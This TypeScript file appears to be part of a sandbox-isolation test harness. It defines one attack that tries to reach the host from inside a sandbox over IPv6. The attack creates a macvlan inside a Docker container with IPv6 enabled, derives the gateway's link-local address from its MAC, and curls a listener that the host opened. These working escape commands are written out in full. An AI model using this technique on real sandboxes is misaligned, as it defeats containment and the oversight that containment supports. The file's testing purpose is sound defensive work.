import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Attack } from './attacks.js';

/**
 * IPv6 on the sandbox's own link. Sandbox networks have no IPv6, and the sandbox's namespace has
 * it turned off (its /proc/sys is read-only), but its root can still put a link of its bridge into
 * a namespace where IPv6 is on: a macvlan on its eth0, moved into an inner container started with IPv6 on (`--sysctl`).
 * From there the host's end of the bridge answers on its link-local address (fe80::, derived from
 * the gateway's MAC, which the sandbox's ARP table shows), and the host routes to its own global
 * addresses. The host listens on every IPv6 address (`::`), as `node server.js` and sshd do.
 */

/** EUI-64 link-local address of a MAC, computed in the sandbox (bash). */
const LINK_LOCAL_OF_MAC =
  'IFS=: read a b c d e f <<< "$MAC"; LL=$(printf "fe80::%x:%xff:fe%02x:%x" $(( (0x$a ^ 2) << 8 | 0x$b )) 0x$c 0x$d $(( 0x$e << 8 | 0x$f )))';

export const ipv6LinkAttacks: Attack[] = [
  {
    id: 'ipv6-link-local',
    title: "the host over IPv6: its bridge's link-local address and its global addresses, from a link the sandbox turned IPv6 on for",
    async run({ attacker }) {
      let accepted = 0;
      const listener = createServer((socket) => {
        accepted += 1;
        socket.destroy();
      });
      await new Promise<void>((resolve) => listener.listen(0, '::', resolve));
      const port = (listener.address() as { port: number }).port;
      const globals = Object.values(networkInterfaces())
        .flat()
        .filter((a) => a && a.family === 'IPv6' && !a.internal && !a.address.startsWith('fe80'))
        .map((a) => a!.address)
        .slice(0, 4);
      const inside = (command: string) => `nsenter -t $P -n ${command}`;
      const curl = (label: string, url: string) =>
        `${inside(`curl -s -m 3 -g -o /dev/null -w 'V6 ${label} %{http_code} exit=%{exitcode}\\n' "${url}"`)} || true`;
      try {
        const { output } = await attacker.run(
          [
            // Any packet to the gateway makes the sandbox learn its MAC.
            'GW=$(ip -4 route show default | cut -d" " -f3); timeout 2 bash -c "exec 3<>/dev/tcp/$GW/9" 2>/dev/null',
            "MAC=$(ip neigh show $GW | grep -o 'lladdr [0-9a-f:]*' | cut -d' ' -f2); echo \"GWMAC $MAC\"",
            LINK_LOCAL_OF_MAC,
            'echo "HOSTLL-$((1)) $LL"',
            'ip link add mv6 link eth0 type macvlan mode bridge',
            // Its runc sets the namespace's defaults; a link moved in takes them.
            'docker run -d --name v6atk --sysctl net.ipv6.conf.all.disable_ipv6=0 --sysctl net.ipv6.conf.default.disable_ipv6=0 --sysctl net.ipv6.conf.default.accept_dad=0 --entrypoint sleep postgres:15 120 >/dev/null',
            "P=$(docker inspect -f '{{.State.Pid}}' v6atk); ip link set mv6 netns $P",
            inside('ip link set mv6 up'),
            // The host's neighbour entry, so no answer to neighbour discovery is needed.
            inside('ip -6 neigh replace $LL lladdr $MAC dev mv6 nud permanent'),
            inside('ip -6 route add default via $LL dev mv6'),
            `echo "V6READY $(${inside('ip -6 addr show dev mv6')} | grep -c 'inet6 fe80')"`,
            curl('link-local', `http://[$LL%mv6]:${port}/`),
            ...globals.map((address) => curl(`global-${address}`, `http://[${address}]:${port}/`)),
          ].join('; '),
          120_000,
        );
        const ready = /V6READY [1-9]/.test(output);
        const attempts = [...output.matchAll(/^V6 (\S+) (\d{3}) exit=(\d+)/gm)].map((m) => `${m[1]} exit ${m[3]}`);
        if (!ready || attempts.length === 0 || !/GWMAC [0-9a-f:]{17}/.test(output)) throw new Error(`the attack did not run: ${output.replace(/\s+/g, ' ').slice(-200)}`);
        return {
          succeeded: accepted > 0,
          evidence: `a macvlan of the sandbox's link in an inner container with IPv6 on (${/HOSTLL-1 (\S+)/.exec(output)?.[1]} is the host's end): ${attempts.join(', ')} (curl exit 28: no answer); the host's listener on [::]:${port} accepted ${accepted}`,
        };
      } finally {
        listener.close();
        await attacker.run('docker rm -f v6atk >/dev/null 2>&1; ip link del mv6 2>/dev/null; true', 60_000).catch(() => undefined);
      }
    },
  },
];
